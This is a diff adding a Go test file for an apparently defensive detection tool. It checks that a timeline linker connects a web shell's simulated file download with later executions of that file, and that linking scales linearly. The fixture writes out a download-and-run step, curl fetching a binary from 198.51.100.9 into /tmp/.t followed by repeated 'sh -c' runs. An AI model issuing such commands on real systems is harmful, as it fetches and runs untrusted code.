@@ -1,0 +1,80 @@
+package timeline
+
+import (
+	"fmt"
+	"testing"
+	"time"
+
+	"github.com/auditchain/auditchain/detect"
+)
+
+// droppedScene: one web shell downloads /tmp/.t with curl -o; another
+// unit of work (a second web shell) then runs it from one process that
+// execs n times, each exec a finding. It returns the download's finding
+// and the runner's, and the bytes of argv the linker reads.
+func droppedScene(t testing.TB, n int) (s *sim, dl *detect.Finding, runs []*detect.Finding, argBytes int64) {
+	s = newSim(t, Options{})
+	s.webServer()
+	a := shellOf(300, worker1, "/tmp")
+	dl = s.find(s.exec(10, a, "curl", "-o", "/tmp/.t", "http://198.51.100.9/t"), detect.StageCommandExecution, detect.SeverityHigh, "Download")
+	b := shellOf(400, worker2, "/tmp")
+	for i := range n {
+		args := []string{"sh", "-c", fmt.Sprintf("/tmp/.t --round %d > /dev/null", i)}
+		for _, a := range args {
+			argBytes += int64(len(a))
+		}
+		runs = append(runs, s.find(s.exec(20+float64(i)/1000, b, args...), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Dropped Tool"))
+	}
+	return s, dl, runs, argBytes
+}
+
+// The file link still joins the two units of work, from any of the
+// runner's findings.
+func TestLinkDroppedFileManyExecs(t *testing.T) {
+	s, dl, runs, _ := droppedScene(t, 50)
+	r := s.build()
+	c := chainOf(r, dl)
+	if c == nil {
+		t.Fatal("download in no chain")
+	}
+	wantIn(t, r, c, "file link", runs...)
+	if !hasLink(c, "file: /tmp/.t written by", "named in the arguments of") {
+		t.Errorf("links %q", c.Links)
+	}
+}
+
+// One process with many execs and a finding on each must cost linear time
+// in the linker, not execs × findings.
+func TestLinkDroppedFilesLinear(t *testing.T) {
+	cost := func(n int) time.Duration {
+		s, _, _, _ := droppedScene(t, n)
+		l := newLinker(s.b, s.tree, s.findings, causality{})
+		start := time.Now()
+		l.link()
+		return time.Since(start)
+	}
+	cost(200) // warm up
+	small, big := cost(500), cost(4000)
+	// 8× the input: linear is about 8×, quadratic 64×
+	if big > 24*small && big > 200*time.Millisecond {
+		t.Errorf("500 execs %s, 4000 execs %s: superlinear", small, big)
+	}
+}
+
+// BenchmarkLinkDroppedFiles: per op, the linker (all rules; the
+// dropped-file rule is the one that reads every exec) over one process
+// that execs n times with a finding on each. ns/op should grow with n, and
+// MB/s stay flat across the sizes.
+func BenchmarkLinkDroppedFiles(b *testing.B) {
+	for _, n := range []int{1000, 4000} {
+		b.Run(fmt.Sprintf("execs=%d", n), func(b *testing.B) {
+			s, _, _, argBytes := droppedScene(b, n)
+			b.SetBytes(argBytes)
+			b.ReportAllocs()
+			b.ResetTimer()
+			for range b.N {
+				newLinker(s.b, s.tree, s.findings, causality{}).link()
+			}
+		})
+	}
+}
